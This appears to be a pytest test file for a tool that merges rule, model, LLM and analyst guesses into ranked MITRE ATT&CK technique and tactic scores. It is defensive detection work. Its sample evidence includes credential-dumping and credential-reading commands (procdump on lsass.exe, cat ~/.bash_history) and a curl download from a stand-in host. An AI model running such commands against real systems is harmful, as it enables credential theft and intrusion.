"""The ensemble that merges mappers' candidates into one ranking."""

from __future__ import annotations

import pytest

from llmnav.mapping.base import Candidate, MapInput
from llmnav.mapping.combine import combine, tactic_scores
from llmnav.mapping.engine import MappingEngine

SOURCES = {"rules": "rule", "model": "model", "llm": "llm", "analyst": "analyst"}


def test_combine_agreement_raises_confidence_above_each_mapper() -> None:
    ranking = combine(
        {"rules": [Candidate("T1046", 0.7, "nmap -sV")], "model": [Candidate("T1046", 0.5)]},
        sources=SOURCES,
    )
    assert ranking[0].technique_id == "T1046"
    assert ranking[0].confidence == pytest.approx(1 - 0.3 * 0.5)
    assert ranking[0].mappers == ("rules", "model")


def test_combine_prefers_a_rules_evidence_to_a_models() -> None:
    ranking = combine(
        {
            "model": [Candidate("T1003.001", 0.95, "lsass")],
            "rules": [Candidate("T1003.001", 0.5, "procdump -ma lsass.exe")],
        },
        sources=SOURCES,
    )
    assert ranking[0].evidence == "procdump -ma lsass.exe"
    assert ranking[0].source == "rule"


def test_combine_hides_secrets_in_the_evidence_it_shows() -> None:
    span = 'curl -H "Authorization: Bearer sk-live-0123456789abcdef0123" https://x.example/a -o a'
    ranking = combine({"rules": [Candidate("T1105", 0.5, span)]}, sources=SOURCES)
    assert "sk-live" not in ranking[0].evidence
    assert ranking[0].evidence.startswith('curl -H "Authorization: Bearer [REDACTED')


def test_combine_ranks_best_first_and_applies_weights_and_limit() -> None:
    ranking = combine(
        {
            "model": [Candidate("T1082", 0.6), Candidate("T1016", 0.5), Candidate("T1049", 0.1)],
            "llm": [Candidate("T1016", 0.5)],
        },
        sources=SOURCES,
        weights={"llm": 0.5},
        limit=2,
    )
    assert [r.technique_id for r in ranking] == ["T1016", "T1082"]
    assert ranking[0].confidence == pytest.approx(1 - 0.5 * 0.75)


def test_combine_analyst_labels_always_win() -> None:
    ranking = combine(
        {
            "analyst": [Candidate("T1486", 0.1, "analyst label")],
            "model": [Candidate("T1059", 0.99)],
        },
        sources=SOURCES,
    )
    assert (ranking[0].technique_id, ranking[0].confidence, ranking[0].source) == (
        "T1486",
        1.0,
        "analyst",
    )


def test_combine_clamps_scores_outside_0_1() -> None:
    ranking = combine({"llm": [Candidate("T1005", 7.0), Candidate("T1006", -2.0)]}, sources=SOURCES)
    assert [r.confidence for r in ranking] == [1.0, 0.0]


def test_tactic_scores_combine_techniques_of_each_tactic() -> None:
    ranking = combine(
        {"model": [Candidate("T1003.001", 0.8), Candidate("T1078", 0.5)]}, sources=SOURCES
    )
    tactics = tactic_scores(
        ranking,
        {"T1003.001": ("TA0006",), "T1078": ("TA0005", "TA0003", "TA0004", "TA0001")},
    )
    assert tactics[0] == ("TA0006", pytest.approx(0.8))
    assert {t for t, _ in tactics} == {"TA0006", "TA0005", "TA0003", "TA0004", "TA0001"}


def test_tactic_scores_rank_by_best_technique_not_by_many_weak_ones() -> None:
    ranking = combine(
        {
            "model": [
                Candidate("T1071.001", 0.6),
                Candidate("T1027", 0.45),
                Candidate("T1027.013", 0.4),
                Candidate("T1140", 0.35),
            ]
        },
        sources=SOURCES,
    )
    of = {"T1071.001": ("TA0011",), "T1027": ("TA0005",), "T1027.013": ("TA0005",)}
    tactics = tactic_scores(ranking, {**of, "T1140": ("TA0005",)})
    assert [t for t, _ in tactics] == ["TA0011", "TA0005"]
    # the score stays the noisy-or of the tactic's techniques
    assert tactics[1][1] == pytest.approx(1 - 0.55 * 0.6 * 0.65)
    assert tactics[0][1] == pytest.approx(0.6)


def test_a_rule_match_on_a_command_outranks_a_models_guess_at_another_technique() -> None:
    (history,) = MappingEngine.default().map([MapInput("1", "cat ~/.bash_history", "command")])
    assert history.techniques[0].technique_id == "T1552.003"
    assert history.techniques[0].source == "rule"
